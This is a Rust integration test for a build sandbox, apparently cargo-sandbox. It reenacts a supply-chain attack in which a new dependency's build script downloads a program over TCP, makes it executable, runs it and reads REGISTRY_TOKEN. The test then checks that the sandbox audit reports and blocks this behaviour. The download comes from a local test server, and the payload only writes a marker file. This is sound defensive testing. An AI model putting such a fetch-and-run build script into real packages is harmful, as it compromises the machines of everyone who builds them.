//! The attack of August 2026, as a harmless copy: a new version of a known crate has a new dependency, whose build script
//! fetches a program and starts it. It shows in what is new, even where all of it is allowed.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::support::run::run;
use super::support::world::World;
use super::{each_engine, project, sandbox, vendor};

/// What a well-behaved crate's build script does.
const HARMLESS: &str = "use std::process::Command;\nfn main() {\n    println!(\"cargo:rerun-if-env-changed=KNOWN_DIR\");\n    \
                        assert!(Command::new(\"uname\").arg(\"-m\").output().unwrap().status.success());\n}\n";

/// Fetches a program, or has it with it where that fails, and starts it.
const FETCHES: &str = r##"
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
fn main() {
    let mut program = b"#!/bin/sh\nexit 0\n".to_vec();
    if let Ok(mut stream) = std::net::TcpStream::connect(include_str!("address")) {
        program.clear();
        stream.write_all(b"GET /payload HTTP/1.0\r\n\r\n").unwrap();
        stream.read_to_end(&mut program).unwrap();
    }
    let _ = std::env::var("REGISTRY_TOKEN");
    println!("cargo:rerun-if-env-changed=REGISTRY_TOKEN");
    let path = format!("{}/payload", std::env::var("OUT_DIR").unwrap());
    std::fs::write(&path, program).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(std::process::Command::new(&path).arg("--quiet").status().unwrap().success());
}
"##;

/// A server of this machine's that has the program, and how often it gave it out.
fn server(payload: String) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address").to_string();
    let given = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&given);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 1024]);
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = stream.write_all(payload.as_bytes());
        }
    });
    (address, given)
}

fn known(world: &World, project: &Path, version: &str, dependencies: &str) {
    vendor(world, project, "known", version, dependencies, &[("build.rs", HARMLESS)]);
}

#[test]
fn a_dependency_that_fetches_and_starts_a_program_is_news() {
    each_engine("attack", |world, engine| {
        let project = project(world, "known = \"1\"");
        let mark = world.home.join("payload-ran");
        let (address, given) = server(format!("#!/bin/sh\necho ran >{}\n", mark.display()));
        known(world, &project, "1.0.0", "");

        let missing = sandbox(world, engine, &project, "--locked-behaviour build");
        assert_eq!(missing.code(), 101);
        assert!(missing.stderr.contains("self report --pin"), "{}", missing.stderr);
        sandbox(world, engine, &project, "--audit build").success("--audit build");
        let pinned = sandbox(world, engine, &project, "self report --pin").success("self report --pin");
        assert!(pinned.stdout.contains("cargo-sandbox.lock"), "{}", pinned.stdout);
        let lock = fs::read_to_string(project.join("cargo-sandbox.lock")).unwrap();
        assert!(lock.contains("programs = [\"uname\"]") && lock.contains("\"KNOWN_DIR\""), "{lock}");
        assert!(!lock.contains(world.home.to_str().unwrap()), "nothing of this machine: {lock}");
        // Built anew it does what it did.
        sandbox(world, engine, &project, "clean").success("clean");
        let same = sandbox(world, engine, &project, "--locked-behaviour build").success("--locked-behaviour");
        assert!(!same.stderr.contains("new behaviour"), "{}", same.stderr);

        // The new version.
        vendor(world, &project, "helper", "0.1.0", "", &[("build.rs", FETCHES), ("address", &address)]);
        known(world, &project, "1.0.1", "[dependencies]\nhelper = \"0.1\"");
        fs::remove_file(project.join("Cargo.lock")).unwrap();

        // Control: under cargo itself it works.
        let mut plain = super::support::line::plain(world, &project, "build");
        run(&mut plain).success("cargo build");
        assert!(mark.exists() && given.load(Ordering::SeqCst) == 1, "the attack works under plain cargo");
        fs::remove_file(&mark).unwrap();

        let audited = sandbox(world, engine, &project, "--audit build").success("the build itself goes on");
        let expected = "new behaviour: the build script of `helper 0.1.0` (not in cargo-sandbox.lock)\n  + job: the build \
                        script runs\n  + network: 127.0.0.1:*\n  + program: {out}/payload (--quiet)\n  + variable: \
                        REGISTRY_TOKEN\n";
        assert!(audited.stderr.contains(expected), "{}", audited.stderr);
        assert!(
            !audited.stderr.contains("`known 1.0.1`"),
            "known itself does what it did: {}",
            audited.stderr
        );
        assert!(!mark.exists() && given.load(Ordering::SeqCst) == 1, "and nothing was fetched");
        let page = fs::read_to_string(super::report(world).join("audit.html")).unwrap();
        assert!(
            page.contains("the build script of `helper 0.1.0`") || page.contains("helper 0.1.0"),
            "{page}"
        );
        sandbox(world, engine, &project, "clean").success("clean");
        let locked = sandbox(world, engine, &project, "--locked-behaviour build");
        assert_eq!(locked.code(), 101);
        assert!(
            locked.stderr.contains(expected) && locked.stderr.contains("hint: look at it"),
            "{}",
            locked.stderr
        );
        // Looked at, and accepted.
        let pinned = sandbox(world, engine, &project, "self report --pin").success("self report --pin");
        assert!(pinned.stdout.contains(expected), "{}", pinned.stdout);
        sandbox(world, engine, &project, "clean").success("clean");
        sandbox(world, engine, &project, "--locked-behaviour build").success("--locked-behaviour");
        let lock = fs::read_to_string(project.join("cargo-sandbox.lock")).unwrap();
        assert!(!lock.contains("\"1.0.0\"") && lock.contains("\"1.0.1\""), "what is gone is gone: {lock}");
    });
}
